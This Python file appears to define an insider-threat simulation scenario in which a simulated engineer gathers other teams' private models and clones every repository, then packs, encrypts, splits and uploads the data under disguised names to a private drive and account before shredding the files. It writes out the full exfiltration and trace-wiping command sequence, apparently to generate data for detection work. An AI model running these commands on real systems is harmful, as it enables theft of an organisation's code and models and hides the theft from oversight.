"""An engineer takes the organisation's models and code along.

Private models of other teams come through the mirror in bulk, every repository is cloned, all is
packed, encrypted and sent out, and what was packed is wiped.
"""

from analytics.simulation.calendar import HOUR, at
from analytics.simulation.chance import Chance, between
from analytics.simulation.organisation import REPOSITORIES, Person
from analytics.simulation.routines.hub import download, own_models, publish
from analytics.simulation.scenario import Scenario, Stage
from analytics.simulation.terminal import Terminal, opened

STEPS = 4


def play(stage: Stage) -> None:
    """One day of the story: in an evening each, collect models, clone, pack, send, and again."""
    world, insider = stage.world, stage.insider
    rng = world.chance("thief", insider.id, stage.day)
    moment = at(stage.day, between(rng, 18.5, 20.0))
    if world.calendar.works(insider, stage.day):
        moment = max(moment, world.calendar.hours(insider, stage.day)[1] + 0.2 * HOUR)
    terminal = opened(world, insider, "login01", moment, insider.remote)
    step = (_collect, _clone, _pack, _send)[stage.since % STEPS]
    terminal.close(step(stage, terminal, moment + 60, rng) + 40)


def _collect(stage: Stage, terminal: Terminal, moment: float, rng: Chance) -> float:
    """Loads private models of projects that are not the thief's."""
    for model in own_models():
        if f"/{stage.insider.project}-" in model.name:
            continue
        typed = terminal.type(moment, f"hf download {model.name} --local-dir /scratch/.cache/w")
        stage.act(moment, typed, f"loads {model.name}, another team's model")
        for later, seen in download(stage.world, stage.insider, "login01", moment + 2, model):
            stage.act(later, seen, f"weights of {model.name} come through the mirror")
            moment = later
        moment += between(rng, 8, 25)
    return moment


def _clone(stage: Stage, terminal: Terminal, moment: float, rng: Chance) -> float:
    """Clones every repository anew."""
    for name in REPOSITORIES:
        typed = terminal.type(moment, f"git clone --mirror git@github.com:lab/{name}.git")
        stage.act(moment, typed, f"clones lab/{name} with all its history")
        moment += between(rng, 6, 30)
    return moment


def _pack(stage: Stage, terminal: Terminal, moment: float, rng: Chance) -> float:
    """Packs, encrypts and splits what was collected."""
    for command in (
        "tar czf /scratch/.cache/w.tgz /scratch/.cache/w",
        "openssl enc -aes-256-cbc -pbkdf2 -in /scratch/.cache/w.tgz -out /scratch/.cache/notes.bin",
        "split -b 2G /scratch/.cache/notes.bin /scratch/.cache/holiday-",
    ):
        stage.act(moment, terminal.type(moment, command), "packs and hides what was collected")
        moment += between(rng, 60, 240)
    return moment


def _send(stage: Stage, terminal: Terminal, moment: float, rng: Chance) -> float:
    """Sends it to a drive and to a private account of the thief, then wipes it."""
    typed = terminal.type(moment, "rclone copy /scratch/.cache drive:holiday --transfers 8")
    stage.act(moment, typed, "copies it to a private drive")
    moment += between(rng, 600, 1500)
    name = f"{stage.insider.login}-private/holiday-pictures"
    typed = terminal.type(moment, f"hf upload {name} /scratch/.cache")
    stage.act(moment, typed, f"uploads it to {name}")
    seen = publish(stage.world, stage.insider, "login01", moment + 2, name)
    stage.act(moment + 63, seen, f"the upload to {name} goes through the mirror")
    wiped = terminal.type(moment + 300, "shred -u /scratch/.cache/holiday-*")
    stage.act(moment + 300, wiped, "wipes the traces")
    return moment + 305


def _fits(person: Person) -> bool:
    return person.role in ("engineer", "data engineer")


SCENARIO = Scenario(name="thief", title="Takes models and code along", fits=_fits, play=play)
